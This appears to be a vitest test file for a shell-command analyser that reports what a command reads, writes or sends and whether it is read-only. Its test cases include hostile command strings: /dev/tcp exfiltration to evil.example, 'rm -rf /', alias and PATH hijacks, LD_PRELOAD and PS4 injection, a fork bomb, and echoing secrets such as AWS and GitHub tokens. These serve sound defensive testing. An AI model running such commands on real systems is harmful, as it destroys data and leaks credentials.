// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { describeEffect } from "../../contract/describe.ts";
import type { ReadContext, ShellReading } from "../../contract/reading.ts";
import { diskWorld } from "../../machine/index.ts";
import { explain, isReadOnly, readShell, renderExplanation } from "./index.ts";

let base = "";
beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), "reader-"));
  for (const dir of ["repo", "repo/src", "repo/bin", "repo/odd", "repo/some", "home", "home/system"])
    mkdirSync(join(base, dir));
  for (const file of ["repo/a.txt", "repo/odd/-rf", "repo/bin/cat", "home/system/cat", "home/system/wc"])
    writeFileSync(join(base, file), "", { mode: 0o755 });
  symlinkSync("/etc", join(base, "repo/link"));
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

const context = (more: Partial<ReadContext> & { readonly path?: string } = {}): ReadContext => ({
  cwd: join(base, "repo"),
  projectRoot: join(base, "repo"),
  world: diskWorld({ home: join(base, "home"), path: more.path ?? "/usr/bin:/bin" }),
  written: new Set(),
  ...more,
});

const read = (command: string, more = {}): ShellReading => readShell(command, context(more));

/** The effects in words, with the temporary directory taken out. */
const says = (reading: ShellReading): readonly string[] =>
  reading.effects.map((effect) => describeEffect(effect).replaceAll(base, ""));

describe("effects, with targets", () => {
  test.each<readonly [string, readonly string[]]>([
    ["cat a.txt", ["reads /repo/a.txt"]],
    ["cat src/../a.txt ./b //etc//c", ["reads /repo/a.txt", "reads /repo/b", "reads /etc/c"]],
    ["cat ~/x \"$HOME\"/y '~/z'", ["reads /home/x", "reads /home/y", "reads /repo/~/z"]],
    ["cat {a,b}.txt", ["reads /repo/a.txt", "reads /repo/b.txt"]],
    ['x=src; cat $x/a "$x"/b', ["reads /repo/src/a", "reads /repo/src/b"]],
    ["x=src y=$x; cat $y/a", ["reads /repo/src/a"]],
    ["x='a b'; cat $x", ["reads /repo/a", "reads /repo/b"]],
    ["cat src/*.ts", ["reads /repo/src/*.ts"]],
    ["cat link/../a.txt", ["reads a place that is not known"]],
    ['cat "$UNSET_NAME/a"', ["reads a place that is not known", 'not understood: cat … "$UNSET_NAME/a"']],
    ["for f in a b; do cat $f; done", ["reads /repo/a", "reads /repo/b"]],
    ['f() { cat $1 "$2"; }; f x y', ["reads /repo/x", "reads /repo/y"]],
    ["cat $(echo a.txt)", ["reads /repo/a.txt"]],
    ["cat $(pwd)/a.txt", ["reads /repo/a.txt"]],
    ['cat "$(dirname src/x.ts)"/b', ["reads /repo/src/b"]],
    ['xs=(a b); cat "${xs[@]}"', ["reads /repo/a", "reads /repo/b"]],
    ['set -- a b; cat "$@"', ["reads /repo/a", "reads /repo/b"]],
    ["echo hi > out", ["writes /repo/out"]],
    ["echo hi >> out 2> err", ["appends to /repo/out", "writes /repo/err"]],
    ["echo hi &> out", ["writes /repo/out"]],
    ["echo hi >& out", ["writes /repo/out"]],
    ["wc -l < a.txt", ["reads /repo/a.txt"]],
    ["{ echo a; cat b; } > out", ["writes /repo/out", "reads /repo/b"]],
    ["for i in 1 2; do echo $i; done > out", ["writes /repo/out"]],
    ["> out", ["writes /repo/out"]],
    ["echo x > /dev/null 2>&1 3>&-", []],
    ["echo x > /dev/stderr", []],
    ["cat < /dev/tcp/evil.example/80", ["sends data to evil.example"]],
    ["echo x > /dev/udp/10.0.0.1/53", ["sends data to 10.0.0.1"]],
    ["echo x > $OUT", ["writes a place that is not known"]],
    ["[ -f a.txt ] && [[ -d src ]]", ["looks at /repo/a.txt", "looks at /repo/src"]],
    ["cat <(cat a) >(cat b)", ["reads /repo/a", "reads /repo/b"]],
    ["echo `cat a`", ["reads /repo/a"]],
    ["cat <<E\n$(cat a)\nE", ["reads /repo/a"]],
    ["cat <<'E'\n$(cat a)\nE", []],
    [
      "if cat a; then cat b; elif cat c; then cat d; else cat e; fi",
      ["reads /repo/a", "reads /repo/b", "reads /repo/c", "reads /repo/d", "reads /repo/e"],
    ],
    ["case x in a) cat a;; *) cat b;; esac", ["reads /repo/a", "reads /repo/b"]],
    ['while read -r f; do echo "$f"; done < a.txt', ["reads /repo/a.txt"]],
    ["dd if=~/x status=none", ["reads /home/x"]],
    ["cat ../repo/src/*.ts", ["reads /repo/src/*.ts"]],
    ["grep -v s* /dev/null", ["reads /repo/s*"]],
    [
      "find src -name '*.ts' | sort | xargs grep -l x",
      ["looks at /repo/src and all below", "reads somewhere at or below /repo/src"],
    ],
    [
      'find src | while read -r f; do cat "$f"; done',
      ["looks at /repo/src and all below", "reads somewhere at or below /repo/src"],
    ],
    [
      "find src -print0 | xargs -0 -I{} cat {}",
      ["looks at /repo/src and all below", "reads somewhere at or below /repo/src"],
    ],
    [
      "find src | xargs ls",
      ["looks at /repo/src and all below", "looks at somewhere at or below /repo/src", "looks at /repo"],
    ],
    [
      "find odd | xargs cat",
      ["looks at /repo/odd and all below", "reads a place that is not known", "not understood: cat … …"],
    ],
    [
      "find src | sed s/a/b/ | xargs cat",
      ["looks at /repo/src and all below", "reads a place that is not known", "not understood: cat … …"],
    ],
    ["cat src/**/x", ["reads somewhere at or below /repo/src"]],
    ["cat .*", ["reads somewhere at or below "]],
    ["true | cd src; cat a", ["reads /repo/a", "reads /repo/src/a"]],
  ])("%s", (command, expected) => {
    expect(says(read(command))).toEqual(expected);
  });
});

describe("where the shell stands", () => {
  test.each<readonly [string, readonly string[]]>([
    ["cd src && cat a", ["reads /repo/src/a"]],
    ["cd src; cat a", ["reads /repo/src/a"]],
    ["cd nowhere; cat a", ["reads /repo/nowhere/a", "reads /repo/a"]],
    ["cd nowhere || exit 1; cat a", ["reads /repo/nowhere/a"]],
    ["cd nowhere || cat a", ["reads /repo/a"]],
    ["(cd src && cat a); cat b", ["reads /repo/src/a", "reads /repo/b"]],
    ["cd src | cat a", ["reads /repo/a"]],
    ["cd src && cd .. && cat a", ["reads /repo/a"]],
    ["cd src && cd - && cat a", ["reads /repo/a"]],
    ["cd && cat a", ["reads /home/a"]],
    ['cd "$X" && cat a', ["reads a place that is not known"]],
    ["CDPATH=/x; cd src && cat a", ["sets CDPATH to /x", "reads a place that is not known"]],
    ["pushd src && cat a && popd && cat b", ["reads /repo/src/a", "reads a place that is not known"]],
    ["if cat x; then cd src; fi; cat a", ["reads /repo/x", "reads /repo/src/a", "reads /repo/a"]],
    ["f() { cd src; }; f; cat a", ["reads /repo/src/a"]],
    ["trap 'cd /' DEBUG; cat a", ["reads a place that is not known"]],
  ])("%s", (command, expected) => {
    expect(says(read(command)).filter((said) => !said.startsWith("not understood"))).toEqual(expected);
  });

  test.each([
    ["cd src", "/repo/src"],
    ["cd src && true", "/repo/src"],
    ["(cd src)", "/repo"],
    ["true", "/repo"],
  ])("afterwards: %s", (command, expected) => {
    expect(read(command).cwdAfter.path.replace(base, "")).toBe(expected);
  });
});

describe("programs behind others", () => {
  test.each<readonly [string, string | null, readonly string[], string]>([
    ["timeout -s KILL 5 cat a", "cat", ["timeout"], "cat a"],
    ["timeout --preserve-status -k 1 5s nice -n 5 cat a", "cat", ["timeout", "nice"], "cat a"],
    ["env -u X -i cat a", "cat", ["env"], "cat a"],
    ["env A=1 B=2 cat a", "cat", ["env"], "cat a"],
    ["nohup stdbuf -oL cat a >/dev/null", "cat", ["nohup", "stdbuf"], "cat a"],
    ["command cat a", "cat", ["command"], "cat a"],
    ["exec cat a", "cat", ["exec"], "cat a"],
    ["sudo -n -u root cat a", "cat", ["sudo"], "cat a"],
    ["/usr/bin/cat a", "cat", [], "/usr/bin/cat a"],
    ["/usr/bin/env cat a", "cat", ["env"], "cat a"],
    ["./cat a", "./cat", [], "./cat a"],
    ["\\cat a", "cat", [], "cat a"],
    ["'c'a\"t\" a", "cat", [], "cat a"],
    ["X=1 cat a", "cat", [], "cat a"],
    ["$X a", null, [], "$X a"],
  ])("%s", (command, name, wrappers, words) => {
    const found = read(command).commands.at(-1);
    expect(found?.name).toBe(name);
    expect(found?.wrappers).toEqual(wrappers);
    expect(found?.words.map((word) => word.value ?? word.text).join(" ")).toBe(words);
  });
});

describe("which program a name is", () => {
  const path = (): string => `${base}/repo/bin:${base}/home/system`;
  test.each<readonly [string, string, () => Partial<ReadContext> & { path?: string }, boolean]>([
    ["found outside the project", "wc a", () => ({ path: path() }), true],
    ["found in the project first", "cat a", () => ({ path: path() }), false],
    ["found in the project last", "cat a", () => ({ path: `${base}/home/system:${base}/repo/bin` }), true],
    ["found nowhere", "cut -f1 a", () => ({ path: path() }), true],
    [
      "in a directory written in this session",
      "wc a",
      () => ({ path: `${base}/home/system`, written: new Set([`${base}/home/system/wc`]) }),
      false,
    ],
    ["PATH changed before", "PATH=/x; cat a", () => ({}), false],
    ["PATH changed for it", "PATH=/x cat a", () => ({}), false],
    ["PATH exported", "export PATH=$PATH:/x; cat a", () => ({}), false],
    ["PATH changed in one branch", "if cat b; then PATH=/x; fi; cat a", () => ({}), false],
    [
      "PATH changed by an earlier command",
      "cat a",
      () => ({ shellState: { pathChanged: true, functions: new Set(), aliases: new Set() } }),
      false,
    ],
    [
      "an earlier alias",
      "cat a",
      () => ({ shellState: { pathChanged: false, functions: new Set(), aliases: new Set(["cat"]) } }),
      false,
    ],
    [
      "an earlier function over a builtin",
      "echo a",
      () => ({ shellState: { pathChanged: false, functions: new Set(["echo"]), aliases: new Set() } }),
      false,
    ],
    ["a function of the same name", "cat() { rm -rf ~; }; cat a", () => ({}), false],
    ["a function in one branch", "if true; then cat() { rm -rf ~; }; fi; cat a", () => ({}), false],
    ["by path in the project", "bin/cat a", () => ({}), false],
    ["by path elsewhere", "/tmp/cat a", () => ({}), false],
    ["hash", "hash -p /tmp/x cat; cat a", () => ({}), false],
    ["BASH_CMDS", "BASH_CMDS[cat]=/tmp/x; cat a", () => ({}), false],
    ["written earlier in the same command", "cp x bin/wc; wc a", () => ({ path: path() }), false],
  ])("%s: %s", (_, command, more, known) => {
    expect(isReadOnly(read(command, more()))).toBe(known);
  });
});

describe("reading only", () => {
  test.each([
    "ls -la",
    "cat a.txt | grep -n x | head -5",
    "git status && git log --oneline -5",
    "cd src && ls; pwd",
    'for f in *.txt; do wc -l "$f"; done',
    "if [ -f a.txt ]; then cat a.txt; else echo none; fi",
    'x=$(cat a.txt); echo "$x"',
    "cat a.txt 2>/dev/null || true",
    "LC_ALL=C sort a.txt",
    "NO_COLOR=1 ls",
    "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
    "n=$(wc -l < a.txt); echo $((n + 1))",
    "echo $((2 * 3)) ${HOME} ~",
    "set -euo pipefail; ls",
    'f() { echo "$1"; }; f x',
    "diff <(cat a.txt) <(cat b.txt)",
    "cat <<EOF\nhello $HOME\nEOF",
    "printf '%s\\n' a b | sort",
    "[[ $x == a* && -n $y ]] && echo yes",
    "echo {1..5} a{b,c}",
    "time ls",
    "command -v node",
    "type ls",
    "bash -c 'ls -la'",
    "eval 'ls -la'",
    "timeout 5 cat a.txt",
    '[ -n "$API_KEY" ] && echo set',
    "echo ${API_KEY:+set} ${#API_KEY}",
    "key=a; echo $key",
    ": # nothing",
    "",
  ])("%s", (command) => {
    const reading = read(command);
    expect({ opaque: reading.opaque, says: says(reading), readOnly: isReadOnly(reading) }).toMatchObject({
      readOnly: true,
    });
  });

  test.each([
    "rm -rf /",
    "echo x > a.txt",
    "cat a.txt | tee b",
    "X=1 unknown-program",
    "LD_PRELOAD=/x ls",
    "GIT_SSH_COMMAND=x git status",
    "export PATH=/x",
    "env",
    "export",
    "set",
    "sudo ls",
    'eval "$X"',
    "$X",
    '"$X" a',
    "source x.sh",
    ". x.sh",
    "alias ls='rm -rf ~'",
    "trap 'rm x' EXIT",
    "exec rm x",
    "cd odd && rm *",
    "cat odd/* -- ; cd odd; grep x *",
    "echo $((a[$(rm x)]))",
    "x='a[$(rm x)]'; echo $((x))",
    "[[ $X -eq 1 ]]",
    'test -v "$X"',
    "echo ${!X}",
    'printf -v "$X" a',
    'read "$X"',
    'declare -i n="$X"',
    "echo *(e:'rm x':)",
    "cat =(rm x)",
    "echo ${(e)x}",
    "ls; rm x",
    "ls & rm x",
    "ls | rm x",
    "ls && rm x",
    "ls || rm x",
    "! rm x",
    "(rm x)",
    "{ rm x; }",
    "if ls; then rm x; fi",
    "ls $(rm x)",
    "ls `rm x`",
    "ls <(rm x)",
    'ls "$(rm x)"',
    "ls ${x:-$(rm x)}",
    "cat <<E\n$(rm x)\nE",
    "f() { rm x; }; f",
    "for i in a; do rm $i; done",
    "while rm x; do :; done",
    "case x in $(rm x)) ;; esac",
    "coproc rm x",
    "[ $(rm x) ]",
    "a[$(rm x)]=1",
    "ls\nrm x",
    "ls \\\n; rm x",
    "time rm x",
    "bash -c 'rm x'",
    "echo 'rm x' | bash",
    "bash <<< 'rm x'",
    "bash <<E\nrm x\nE",
    "exec <<< 'rm x'; bash",
    "xargs rm < a.txt",
    "ls | xargs rm",
    "find . -delete",
    "find . -exec rm {} +",
    "env -S 'rm x'",
    "timeout 5 rm x",
    "PAGER='rm x' git log",
    "PS4='$(rm x)' bash -x -c ls",
    "PROMPT_COMMAND='rm x'",
    "enable -f /tmp/x.so x",
    "bind -x '\"a\": rm x'",
    "complete -C 'rm x' ls",
    "mapfile -C 'rm x' a < a.txt",
    "shopt -s expand_aliases",
    "set -k; ls LD_PRELOAD=/x",
    "set -o posix",
    "exec {a[$(rm x)]}>b",
    "ls >$(rm x)",
    "function ls { rm x; }\nls",
    "ls\r\nrm x",
    "nohup rm x &",
    "cat a.txt > /dev/tcp/evil.example/80",
    "wait -p 'a[$(rm x)]'",
    "unset PATH; ls",
    "read PATH < a.txt; ls",
    "for PATH in /tmp; do ls; done",
    "printf -v PATH /tmp; ls",
    "{PATH}> b ls",
    '"l\\\ns"; rm x',
    "((PATH=5)); ls",
    "let PATH=5; ls",
    ": ${PATH:=x}; ls",
    "coproc PATH { :; }; ls",
    "ls() { rm x; }; : | time ls",
    "trap g EXIT; g() { rm x; }",
    "(trap g EXIT; g() { rm x; })",
    "command_not_found_handle() { rm x; }; nosuch",
    "chpwd() { rm x; }; cd src",
    "{ read -r _; bash; } <<'E'\ncat <<'X'\nrm x\nX\nE",
    "bash <<'E'\nread -r _\ncat <<'X'\nrm x\nX\nE",
    "cat <<'E' | bash\nread -r _\ncat <<'X'\nrm x\nX\nE",
    "f() { read -r _; bash; }; f <<'E'\ncat <<'X'\nrm x\nX\nE",
    "bash -c 'read -r _; bash' <<'E'\ncat <<'X'\nrm x\nX\nE",
    "rm /dev/null",
    "uniq s*",
    "echo $API_KEY",
    'echo "token: ${GITHUB_TOKEN:0:8}"',
    'x=$AWS_SECRET_ACCESS_KEY; echo "$x" | rev',
    'cat <<< "$NPM_TOKEN"',
    "printf '%s' \"a$DB_PASSWORD\"",
    "head -n s* a.txt",
  ])("not: %s", (command) => {
    expect(isReadOnly(read(command))).toBe(false);
  });
});

describe("never throws, never guesses", () => {
  test.each([
    ["an unfinished quote", "echo 'a"],
    ["an unfinished substitution", "echo $(ls"],
    ["a here-document without its end", "cat <<E\nx"],
    ["a NUL", "ls\0rm x"],
    ["too long", `echo ${"a".repeat(40_000)}`],
    ["too deep", `${"$(".repeat(200)}ls${")".repeat(200)}`],
    ["too many braces", "echo {1..9}{1..9}{1..9}{1..9}"],
    ["too many commands", "ls;".repeat(4_000)],
    ["loops in loops", `${"for i in a b c d e f g h; do ".repeat(9)}ls${"; done".repeat(9)}`],
    ["a function that calls itself in a fork", ":(){ :|:& };:"],
  ])("%s", (_, command) => {
    const reading = read(command);
    expect(isReadOnly(reading)).toBe(false);
  });

  test("any text at all", () => {
    const piece = fc.constantFrom(
      "$",
      "(",
      ")",
      "{",
      "}",
      "[",
      "]",
      "'",
      '"',
      "`",
      "\\",
      ";",
      "&",
      "|",
      "<",
      ">",
      "\n",
      " ",
      "a",
      "=",
      "*",
      "!",
      "#",
      "ls",
      "cat ",
      "if ",
      "fi",
      "do ",
      "$((",
      "${",
      "<<E\n",
      "é",
      "\u2028",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const reading = read(pieces.join(""));
        const text = renderExplanation(explain(reading));
        return text.split("\n").every((line) => [...line].length <= 80);
      }),
      { numRuns: 400 },
    );
  });
});

test.each<readonly [string, boolean, readonly string[], readonly string[]]>([
  ["ls", false, [], []],
  ["PATH=/x; ls", true, [], []],
  ["f() { ls; }; (g() { ls; })", false, ["f", "g"], []],
  ["alias ll='ls -l' la=ls", true, [], ["ll", "la"]],
  ["source x.sh", true, [], []],
])("what stays in a shell that keeps state: %s", (command, pathChanged, functions, aliases) => {
  const { leaves } = read(command);
  expect(leaves).toEqual({ pathChanged, functions: new Set(functions), aliases: new Set(aliases) });
});

test("an explanation is a tree that fits a terminal", () => {
  const reading = read("cd src && bash -c 'rm -rf build; ls' && cat a.txt > \"$OUT\"");
  const text = renderExplanation(explain(reading)).replaceAll(base, "");
  expect(text).toBe(
    [
      "├─ cd src",
      "├─ bash -c 'rm -rf build; ls'",
      "│  ├─ rm -rf build",
      "│  │    ● deletes /repo/src/build and all below",
      "│  └─ ls",
      "│       · looks at /repo/src",
      '└─ cat a.txt > "$OUT"',
      "     · reads /repo/src/a.txt",
      "     ● writes a place that is not known",
    ].join("\n"),
  );
});
